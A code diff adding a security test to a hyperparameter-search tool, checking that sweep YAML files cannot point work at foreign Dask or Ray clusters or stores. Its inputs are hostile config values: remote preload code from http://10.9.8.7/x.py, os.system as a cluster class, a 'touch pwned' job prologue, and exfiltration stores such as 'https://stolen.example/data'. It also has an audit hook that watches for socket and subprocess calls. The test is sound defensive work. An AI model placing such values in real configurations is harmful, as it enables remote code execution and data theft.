@@ -233,6 +233,64 @@ def test_s3_no_path_leads_to_foreign_code(project: Path) -> None:
     )
 
 
+AFIELD = {
+    "dask: cluster: tls://10.9.8.7:8786": "--cluster tls://10.9.8.7:8786",
+    "dask: cluster: tls://127.0.0.1.a.example:8786": "--cluster tls://127.0.0.1.a.example:8786",
+    "dask: cluster: ssh, options: {hosts: [10.9.8.7]}": "--allow-import ssh",
+    "dask: cluster: distributed.LocalCluster, options: {preload: own.py}": "--allow-import distributed",
+    "dask: options: {preload: http://10.9.8.7/x.py}": "--allow-import distributed",
+    "dask: options: {worker_class: own.Worker}": "--allow-import distributed",
+    "dask: cluster: os.system": "--allow-import os",
+    "dask: cluster: dask_jobqueue.SLURMCluster, options: {job_script_prologue: [touch pwned]}": "dask_jobqueue",
+    "dask: store: s3://stolen/data": "--allow-import s3://stolen/data",
+    "ray: cluster: ray://10.9.8.7:10001": "--cluster ray://10.9.8.7:10001",
+    "ray: cluster: ray://localhost.a.example:10001": "--cluster ray://localhost.a.example:10001",
+    "ray: cluster: os.system": "--cluster os.system",
+    "ray: store: https://stolen.example/data": "--allow-import https://stolen.example/data",
+}
+SEARCH_ALL = """
+import json, sys
+from pathlib import Path
+from click.testing import CliRunner
+from hpo.search import command
+seen = []
+def watch(event, arguments):
+    if event in ("socket.connect", "socket.getaddrinfo", "subprocess.Popen", "os.system"):
+        seen.append([event, str(arguments[-1])])
+sys.addaudithook(watch)
+said = {}
+for path in sorted(Path("search_spaces").glob("*.yaml")):
+    said[path.stem] = CliRunner().invoke(command, ["--space", str(path), "--tracking-uri", "none"]).output
+engines = sorted({"dask", "distributed", "ray", "fsspec", "own"} & set(sys.modules))
+print(json.dumps([said, seen, engines]))
+"""
+
+
+def test_s3_no_file_leads_to_a_foreign_cluster(project: Path) -> None:
+    """Row S3, too: who connects to a scheduler runs its code, and who names a store is given the data."""
+    (project / "search_spaces").mkdir()
+    for n, (written, _) in enumerate(AFIELD.items()):
+        engine, _, keys = written.partition(": ")
+        (project / "search_spaces" / f"{n:02}.yaml").write_text(f"{SAFE}executor: {{engine: {engine}, {keys}}}\n")
+    done = run("-c", SEARCH_ALL)
+    assert done.returncode == 0, done.stderr
+    said, seen, engines = json.loads(done.stdout)
+    hints = dict(zip(sorted(said), AFIELD.values(), strict=True))
+    wrong = [
+        f"{name}: {said[name]}" for name, hint in hints.items()
+        if hint not in said[name] or f"search_spaces/{name}.yaml:5:" not in said[name]
+    ]  # fmt: skip
+    figure(
+        "S3",
+        "a sweep file alone leads to no cluster, no command of a cluster's class and no store but its own",
+        f"{len(AFIELD)} files: accepted or unsaid {wrong}, reached {seen}, imported {engines}",
+        len(wrong) + len(seen) + len(engines) + (project / "pwned").exists(),
+    )
+    address = "tls://10.9.8.7:8786"
+    assert load("search_spaces/00.yaml", [f"executor.cluster={address}"]).executor.cluster == address
+    assert load("search_spaces/00.yaml", allow_import=[address]).executor.cluster == address
+
+
 def test_s5_no_name_leads_out_of_the_project(project: Path, tmp_path_factory: pytest.TempPathFactory) -> None:
     """Row S5: data and artifact paths, the names of sweeps and models, links."""
     outside = tmp_path_factory.mktemp("outside")
